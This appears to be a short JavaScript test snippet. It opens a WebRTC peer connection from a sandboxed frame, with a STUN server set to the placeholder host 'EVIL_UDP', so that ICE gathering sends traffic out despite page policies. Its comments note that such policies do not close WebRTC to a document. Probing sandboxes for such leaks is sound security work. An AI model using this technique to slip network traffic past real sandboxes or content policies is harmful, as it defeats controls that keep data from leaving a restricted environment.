// A peer connection from the frame, where no program ever runs.
// known: no policy of a page closes WebRTC to a document. Programs run in workers, which have none.

const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:EVIL_UDP' }] });
c.createDataChannel('a');
await c.setLocalDescription(await c.createOffer());
await new Promise((r) => setTimeout(r, 400));
// It would go on asking.
c.close();
await new Promise((r) => setTimeout(r, 100));
